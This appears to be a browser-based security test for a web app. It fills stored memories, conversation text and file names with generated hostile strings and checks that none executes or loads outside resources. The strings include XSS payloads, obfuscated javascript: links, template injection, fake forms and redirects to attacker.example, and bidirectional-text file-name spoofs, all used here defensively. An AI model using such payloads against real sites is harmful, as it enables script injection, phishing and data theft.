// What strangers who wrote into a memory, a conversation or a file's name can do on the page: nothing.

import { expect, test } from 'vitest';
import { served } from '../server/served.ts';
import { SEED, sized } from '../support/depth.ts';
import { seeded } from '../support/random.ts';
import { tempDir } from '../support/temp.ts';
import { know } from './beside-page.ts';
import { hasBrowser, useBrowser, visit } from './browser.ts';
import { fillMemory } from './filled.ts';

const browser = useBrowser();

// In the small size scripts.test.ts looks at what is sent, without a browser.
test.skipIf(!hasBrowser || sized({ quick: true, deep: false }))(
  'hostile strings wherever strangers can write do nothing, and nothing is wider than the view or over a button',
  async () => {
    const world = await served();
    const strings = hostileStrings(90);
    const { url } = world;
    const at = (n: number) => strings[n % strings.length] as string;
    const count = strings.length;
    // Each string stands in a list; of what the list leads to every so many is opened, from which one on by the seed: some
    // of each kind.
    const every = 5;
    const first = SEED % (every - 1);
    const isOpened = (n: number) => n % every === first;
    /** Also what it leads to, and its forms. */
    const isWhole = (n: number) => n % (9 * every) === first;
    // Each is a line, an entry, a quote, the words around one, a description, a reason, a session's id and a file's name.
    await fillMemory(world, {
      ...{ topics: count, lines: 1, sessions: count, nights: 2, proposals: 18, transcripts: tempDir() },
      says: (kind, n) =>
        oneLine(kind === 'answer' ? at(n + 3) : at(n)).slice(0, kind === 'line' || kind === 'answer' ? 10_100 : 900),
      topic: (n) => fileName(at(n), n),
      session: (n) => oneLine(at(n)).slice(0, 300),
      file: (n) => fileName(at(n + 4), n),
      now: world.app.config.clock.now(),
    });
    await know(world);
    const { page, problems, asked, memory, go } = await visit(browser(), world);
    const hrefs = (selector: string) =>
      page.locator(selector).evaluateAll((links) => links.map((link) => String(link.getAttribute('href'))));
    const widths = [375, 1280];
    const look = async (path: string) => {
      await go(path);
      // It is as wide as the last one left it.
      for (const width of widths.reverse()) {
        await page.setViewportSize({ width, height: 800 });
        const told = (await page.evaluate(LOOK)) as {
          wide: number;
          ran: boolean;
          gadgets: string[];
          covered: string[];
        };
        expect({ path, width, ...told }).toMatchObject({ wide: 0, ran: false, covered: [] });
        for (const each of told.gadgets) expect(each).toMatch(/^href=(?:https?|mailto):/);
      }
    };
    /** All pages of a list, and where they lead. */
    const lookThrough = async (list: string, selector: string) => {
      const found: string[] = [];
      for (let next: string | undefined = list; next; next = (await hrefs('.pager a')).at(-1)) {
        await look(next);
        found.push(...(await hrefs(selector)));
        if (!(await page.locator('.pager a', { hasText: /More|Older/ }).count())) break;
      }
      return found;
    };
    for (const path of ['/', '/next', '/cost', `/search?q=${encodeURIComponent(at(0))}`, '/search?q=hacked'])
      await look(path);
    for (const change of new Set(await lookThrough('/changes', '.change a[href^="/changes/"]'))) await look(change);
    const shown = { topics: 0, around: 0 };
    for (const [n, topic] of (await lookThrough(`/memory/${memory}`, '.topic h2 a.row')).entries()) {
      if (!isOpened(n)) continue;
      await look(topic);
      shown.topics += 1;
      const [edit = ''] = await hrefs('.line a[href*="edit="]');
      // The line with its entry, the quote, and the conversation around it.
      for (const around of await hrefs('.entry a[href*="/entry/"]')) await look(around);
      shown.around += await page.locator('.talk mark').count();
      if (isWhole(n)) for (const form of [edit, `${topic}?edit=topic`].filter(Boolean)) await look(form);
    }
    const entries = [...new Set(await lookThrough(`/changes?memory=${memory}`, 'a[href*="/entry/"]'))];
    for (const [n, entry] of entries.entries()) if (isWhole(n)) await look(entry);
    // What no file system or session takes as a name is not among them.
    for (const shows of Object.values(shown)) expect(shows).toBeGreaterThanOrEqual(Math.floor((count / every) * 0.6));
    expect(problems).toEqual([]);
    expect(asked.filter((each) => !each.startsWith(url))).toEqual([]);
  },
);

function oneLine(text: string): string {
  return text.replace(/[\r\n]+/g, ' ');
}

/** As much of it as a file system takes for a name. */
function fileName(text: string, n: number): string {
  let name = '';
  for (const each of `${n} ${oneLine(text)
    .replace(/[/\\\0]/g, '∕')
    .replace(/[:\p{Cc}]/gu, '꞉')}`) {
    if (Buffer.byteLength(name + each) > 180) break;
    name += each;
  }
  return name.trim().replace(/\.+$/, '');
}

/** Run in the page: how wide it is, whether a script of others ran, which attributes they have, and what lies over a button. */
const LOOK = `({
  wide: document.documentElement.scrollWidth - document.documentElement.clientWidth,
  ran: 'hacked' in globalThis,
  gadgets: [...document.querySelectorAll('.said *, .prose *')].flatMap((each) => [...each.attributes]
    .filter(({ name }) => !['class', 'rel', 'target', 'dir'].includes(name)).map(({ name, value }) => name + '=' + value)),
  covered: [...document.querySelectorAll('main button, main a.button')].filter((each) => each.checkVisibility()).slice(0, 30).flatMap((each) => {
    each.scrollIntoView({ block: 'center' });
    const box = each.getBoundingClientRect();
    const top = document.elementFromPoint(box.x + box.width / 2, box.y + box.height / 2);
    return box.width > 1 && top && !each.contains(top) && !top.contains(each) ? [each.outerHTML.slice(0, 100)] : [];
  }),
})`;

/** Words that mean to be more than words: each kind with something different in it, so that no two are the same. */
function hostileStrings(count: number): string[] {
  const random = seeded(20_261_122);
  const kinds: ((n: number) => string)[] = [
    (n) => `<script>globalThis.hacked=${n}</script>`,
    (n) => `<img src=https://attacker.example/${n}.png onerror="globalThis.hacked=${n}">`,
    (n) => `![a picture](https://attacker.example/${n}.png)`,
    (n) =>
      `[click](${random.pick(['javascript', 'JaVaScRiPt', 'java\tscript', '&#106;avascript', 'data', 'vbscript', 'JAVASCRIPT', '\u0001javascript'])}:globalThis.hacked=${n})`,
    (n) => `<a href="&#x6A;avascript&colon;globalThis.hacked=${n}">a</a>`,
    (n) => `<div hx-get="https://attacker.example/${n}" hx-trigger="load" data-x=${n} x-on:load="hacked=${n}">x</div>`,
    (n) => `"><svg onload=globalThis.hacked=${n}>`,
    (n) => `</textarea></title></style><script>globalThis.hacked=${n}</script>`,
    (n) => `\u202e${n} gnp.exe\u202d \u2066abc\u2069 \u200f${n}`,
    (n) => `${n}${'x'.repeat(random.pick([100, 3_000, 10_000]))}`,
    (n) => `${'\u0300'.repeat(200)}${n}`,
    (n) => `<style>*{display:none}</style><form action=https://attacker.example/${n}><button>Accept</button></form>`,
    (n) => `<https://attacker.example/${n}> and [x][${n}] [${n}]: javascript:globalThis.hacked=${n}`,
    (n) => `<iframe srcdoc="<script>parent.hacked=${n}</script>"></iframe><base href=https://attacker.example/>`,
    (n) => `| a | b |\n|---|---|\n| <b onclick=hacked=${n}> | ${'word '.repeat(500)} |`,
    (n) => `\${globalThis.hacked=${n}} {{constructor.constructor('hacked=${n}')()}} #{${n}}`,
    (n) =>
      `<meta http-equiv=refresh content="0;url=https://attacker.example/${n}"><link rel=stylesheet href=//attacker.example/${n}.css>`,
    (n) => `[${'['.repeat(300)}${n}](`,
  ];
  return Array.from({ length: count }, (_, at) => (kinds[at % kinds.length] as (n: number) => string)(at));
}
